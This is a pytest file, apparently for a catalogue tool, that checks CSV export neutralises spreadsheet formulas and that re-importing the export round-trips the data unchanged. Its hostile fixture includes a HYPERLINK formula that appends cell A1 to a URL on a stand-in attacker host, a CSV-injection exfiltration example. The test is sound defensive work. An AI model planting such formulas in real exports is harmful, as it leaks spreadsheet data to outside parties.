"""CSV export neutralises spreadsheet formulas (OWASP CSV injection), and ingest of that export
still gives back exactly what was exported."""

from __future__ import annotations

import csv
import io
import json

import pytest

from catalogue.spreadsheet import neutralise, unquote
from tests.api.conftest import ingest_sample

HOSTILE = {
    "id": "formule-inzending", "status": "draft",
    "title": '=HYPERLINK("http://kwaad.example/?"&A1, "Klik")',
    "summary": "-2+3 is wat een spreadsheet zou uitrekenen, en @SUM(A1:A9) ook.",
    "organisation": "+32 2 123 45 67", "contact": "@curator", "municipality": "Gent",
    "sectors": ["welzijn"], "krachtlijnen": ["verbindend"], "themes": ["=1+1"],
    "description": "'=al met een aanhalingsteken",
}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''-x", "gewoon", "", "'gewoon"])
def test_neutralise_quotes_formulas_and_unquote_undoes_it(value):
    cell = neutralise(value)
    assert cell[:1] not in tuple("=+-@\t\r")
    assert unquote(cell) == value


def test_export_neutralises_formulas_and_ingest_round_trips(make_cli, tmp_path, sample):
    cli = make_cli(fake=True)
    ingest_sample(cli, tmp_path, [*sample, HOSTILE])
    target = tmp_path / "export.csv"
    assert cli("export", "--format", "csv", "-o", target).exit_code == 0

    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(target.read_text(encoding="utf-8")))}
    row = rows["formule-inzending"]
    for name in ("title", "summary", "organisation", "contact", "themes", "description"):
        assert row[name][:1] not in tuple("=+-@\t\r"), (name, row[name])
    assert row["title"].startswith("'=") and row["description"].startswith("''=")

    before = json.loads(cli("show", "formule-inzending", "--json").output)
    other = make_cli(fake=True)  # the same home: ingest the export back over it
    result = other("ingest", target, "--json")
    assert result.exit_code == 0, result.output
    after = json.loads(other("show", "formule-inzending", "--json").output)
    assert after == before
    assert json.loads(result.output)["updated"] == []  # nothing changed on the way round
